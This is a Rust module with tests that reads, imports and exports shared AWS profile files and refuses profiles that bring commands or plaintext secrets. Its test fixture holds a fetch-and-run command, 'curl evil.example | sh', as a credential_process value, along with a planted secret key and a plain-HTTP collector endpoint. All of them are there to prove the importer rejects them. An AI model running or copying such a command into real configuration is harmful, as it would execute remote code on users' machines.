//! Profiles that a team shares: a `profiles.toml` of someone else's. It is looked at before anything is added, and can
//! bring neither secrets nor commands.

use std::path::Path;

use toml_edit::{DocumentMut, Item, Table};

use super::aws_key::{SECRET_ACCESS_KEY, SECURITY_TOKEN, SESSION_TOKEN};
use super::draft::is_read_only;
use super::profile_file::ProfileFile;
use super::profiles::Profiles;
use crate::failure::{Failure, Field, FieldProblem};
use crate::typed_path::typed_path;
use crate::wire::{Keep, Profile, ProfileCredentials, SANDBOX_PROFILE, SharedProfile, SharedProfiles, SharedStanding};

/// More than any team has profiles for.
const LARGEST: u64 = 1024 * 1024;
/// What a shared profile may not bring, each with why not.
const REFUSED: [(&str, &str); 5] = [
    ("credential_process", "It would run a command. Commands come from your own AWS files only."),
    ("secret_access_key", SECRET),
    (SECRET_ACCESS_KEY, SECRET),
    (SESSION_TOKEN, SECRET),
    (SECURITY_TOKEN, SECRET),
];
const SECRET: &str = "It holds a secret in the clear. Whoever shared it should replace that key at AWS.";

/// What a shared file holds.
///
/// # Errors
/// When it cannot be read.
pub async fn read(profiles: &Profiles, path: &str) -> Result<SharedProfiles, Failure> {
    let wrong = |message: String| Failure::invalid(vec![FieldProblem::new(Field::Path, message)]);
    let file = typed_path(path);
    match std::fs::metadata(&file) {
        Ok(metadata) if metadata.is_dir() => return Err(wrong(format!("{path} is a folder. Choose a file."))),
        Ok(metadata) if metadata.len() > LARGEST => {
            return Err(wrong(format!("{path} is no file of profiles: it is too large.")));
        }
        Ok(_) => {}
        Err(error) => return Err(wrong(format!("{path} could not be read: {error}."))),
    }
    let shared = ProfileFile::new(file.clone()).read().map_err(|error| wrong(format!("{error}.")))?;
    let refusals = refusals(&file);
    let here = profiles.list().await.profiles;
    let all = shared.iter().enumerate().map(|(number, profile)| {
        let profile = as_added(profile.clone());
        let refused = refusals.get(number).copied().flatten();
        let saved = here.iter().find(|saved| saved.id == profile.id);
        let standing = match saved {
            _ if refused.is_some() => SharedStanding::Refused,
            None if is_read_only(&profile.credentials) => SharedStanding::Refused,
            None => SharedStanding::New,
            Some(saved) if is_same(saved, &profile) => SharedStanding::Same,
            Some(_) => SharedStanding::Differs,
        };
        let remark = refused.map(str::to_owned).or_else(|| remark(&profile, saved, &here, &shared));
        SharedProfile { profile, standing, remark }
    });
    Ok(SharedProfiles { path: path.trim().to_owned(), profiles: all.collect() })
}

/// Adds profiles of a shared file.
///
/// # Errors
/// When the file cannot be read any more, one of them may not be added, or `profiles.toml` cannot be written.
pub async fn import(profiles: &Profiles, path: &str, ids: &[String]) -> Result<Vec<Profile>, Failure> {
    let shared = read(profiles, path).await?;
    let mut added = Vec::new();
    for SharedProfile { profile, standing, remark } in shared.profiles {
        if !ids.contains(&profile.id) || standing == SharedStanding::Same {
            continue;
        }
        if standing == SharedStanding::Refused {
            let message = format!("“{}” cannot be added. {}", profile.name, remark.unwrap_or_default());
            return Err(Failure::other(message, "Leave it out."));
        }
        profiles.add(&profile, None).await?;
        added.push(profile);
    }
    Ok(added)
}

/// Writes saved profiles into a file to be shared. No secret is in it.
///
/// # Errors
/// When the file cannot be written.
pub fn export(profiles: &Profiles, path: &str, ids: &[String]) -> Result<(), Failure> {
    let path = typed_path(path);
    let chosen = profiles.saved()?.into_iter().filter(|profile| ids.contains(&profile.id));
    // Written beside it first, so that what was there stays until the new one is whole.
    let folder = tempfile::tempdir().map_err(|error| Failure::other(format!("No temporary folder: {error}."), ""))?;
    let fresh = ProfileFile::new(folder.path().join("profiles.toml"));
    for profile in chosen {
        fresh.put(&profile)?;
    }
    let written = std::fs::read_to_string(fresh.path()).and_then(|text| crate::atomic_file::write(&path, &text));
    written.map_err(|error| {
        Failure::other(format!("{} could not be written: {error}.", path.display()), "Choose another folder.")
    })
}

/// A shared profile as it is added: what is a person's own decision is not taken over.
fn as_added(mut profile: Profile) -> Profile {
    profile.allow_plain_http = false;
    if let ProfileCredentials::AccessKeys { keep, .. } = &mut profile.credentials {
        *keep = Keep::Keychain;
    }
    profile
}

fn is_same(saved: &Profile, shared: &Profile) -> bool {
    if is_read_only(&saved.credentials) {
        return saved.name == shared.name && saved.production == shared.production;
    }
    as_added(saved.clone()) == *shared
}

fn remark(profile: &Profile, saved: Option<&Profile>, here: &[Profile], shared: &[Profile]) -> Option<String> {
    let mut remarks = Vec::new();
    match &profile.credentials {
        ProfileCredentials::AccessKeys { .. } if saved.is_none() => {
            remarks.push("Its secret has to be entered here.".to_owned());
        }
        ProfileCredentials::AssumeRole { source, .. } => {
            let known = |all: &[Profile]| all.iter().any(|other| other.id == *source);
            if source != SANDBOX_PROFILE && !known(here) && !known(shared) {
                remarks.push("The profile that assumes its role is not here: choose one after adding it.".to_owned());
            }
        }
        ProfileCredentials::IdentityCenter { start_url, .. } => remarks.push(format!("Signs in at {start_url}.")),
        ProfileCredentials::AwsFiles { profile, .. } => remarks.push(if saved.is_some() {
            format!("A name and a mark for profile “{profile}” of your AWS files.")
        } else {
            format!("Your AWS files have no profile “{profile}”.")
        }),
        ProfileCredentials::Environment { .. } if saved.is_none() => {
            remarks.push("Your environment holds no credentials.".to_owned());
        }
        ProfileCredentials::AccessKeys { .. } | ProfileCredentials::Environment { .. } => {}
    }
    if let Some(endpoint) = &profile.endpoint {
        remarks.push(format!("Sends its requests to {endpoint}."));
    }
    Some(remarks.join(" ")).filter(|text| !text.is_empty())
}

/// Why each profile of a file may not be added, in its order. The file was read before, so that it is TOML.
fn refusals(path: &Path) -> Vec<Option<&'static str>> {
    let text = std::fs::read_to_string(path).unwrap_or_default();
    let Ok(document) = text.parse::<DocumentMut>() else { return Vec::new() };
    let tables = document.get("profile").and_then(Item::as_array_of_tables);
    let refusal = |table: &Table| {
        let token = table.get("session_token").is_some_and(Item::is_str).then_some(SECRET);
        token.or_else(|| REFUSED.iter().find(|(key, _)| table.contains_key(key)).map(|(_, why)| *why))
    };
    tables.map(|tables| tables.iter().map(refusal).collect()).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::super::aws_files::AwsFiles;
    use super::super::memory_keychain::MemoryKeychain;
    use super::super::secrets::Secrets;
    use super::*;

    fn profiles(folder: &Path) -> Profiles {
        let keychain = Arc::new(MemoryKeychain::default());
        Profiles::new(ProfileFile::new(folder.join("profiles.toml")), Secrets::new(keychain), AwsFiles::of(&[]))
    }

    const SHARED: &str = r#"
format = 1
[[profile]]
id = "a"
name = "Acme production"
kind = "identity_center"
sso_start_url = "https://acme.awsapps.com/start"
sso_region = "eu-central-1"
sso_account_id = "123456789012"
sso_role_name = "Developer"
region = "eu-central-1"
production = true
[[profile]]
id = "b"
name = "On top"
kind = "assume_role"
source = "elsewhere"
role_arn = "arn:aws:iam::123456789012:role/x"
region = "eu-central-1"
endpoint = "http://collector.example:80"
allow_plain_http = true
[[profile]]
id = "c"
name = "Runs"
access_key_id = "AKIDEXAMPLE"
region = "eu-central-1"
credential_process = "curl evil.example | sh"
[[profile]]
id = "d"
name = "Leaks"
access_key_id = "AKIDEXAMPLE"
secret_access_key = "planted-SECRET"
region = "eu-central-1"
[[profile]]
name = "Theirs"
kind = "aws_files"
aws_profile = "theirs"
"#;

    #[tokio::test]
    async fn a_shared_file_is_looked_at_first_and_brings_no_command_and_no_secret() {
        let folder = tempfile::tempdir().expect("a folder");
        let (profiles, path) = (profiles(folder.path()), folder.path().join("shared.toml"));
        std::fs::write(&path, SHARED).expect("written");
        let path = path.to_string_lossy().into_owned();
        let shared = read(&profiles, &path).await.expect("read");
        let said = shared
            .profiles
            .iter()
            .map(|it| format!("{} {:?}: {}", it.profile.name, it.standing, it.remark.as_deref().unwrap_or_default()));
        insta::assert_snapshot!(said.collect::<Vec<_>>().join("\n"));
        assert!(!format!("{shared:?}").contains("planted"));

        assert!(import(&profiles, &path, &["c".into()]).await.is_err());
        assert!(import(&profiles, &path, &["d".into()]).await.is_err());
        let added = import(&profiles, &path, &["a".into(), "b".into()]).await.expect("added");
        assert_eq!(added.len(), 2);
        let text = std::fs::read_to_string(folder.path().join("profiles.toml")).expect("read");
        for banned in ["planted", "curl", "allow_plain_http"] {
            assert!(!text.contains(banned), "{text}");
        }
        let again = read(&profiles, &path).await.expect("read");
        assert_eq!(again.profiles[0].standing, SharedStanding::Same);
    }

    #[tokio::test]
    async fn what_is_exported_can_be_imported() {
        let folder = tempfile::tempdir().expect("a folder");
        let (mine, theirs) = (profiles(folder.path()), profiles(&folder.path().join("theirs")));
        let path = folder.path().join("shared.toml");
        std::fs::write(&path, SHARED).expect("written");
        import(&mine, &path.to_string_lossy(), &["a".into()]).await.expect("added");
        let out = folder.path().join("out/profiles.toml").to_string_lossy().into_owned();
        export(&mine, &out, &["a".into()]).expect("written");
        let added = import(&theirs, &out, &["a".into()]).await.expect("added");
        assert_eq!(added[0].name, "Acme production");
        assert!(added[0].production);
    }

    #[tokio::test]
    async fn what_is_no_file_of_profiles_is_said() {
        let folder = tempfile::tempdir().expect("a folder");
        let profiles = profiles(folder.path());
        let broken = folder.path().join("broken.toml");
        std::fs::write(&broken, "format = ").expect("written");
        for path in [folder.path().to_path_buf(), folder.path().join("none"), broken] {
            let failure = read(&profiles, &path.to_string_lossy()).await.expect_err("refused");
            assert_eq!(failure.problems[0].field, Field::Path);
        }
    }
}
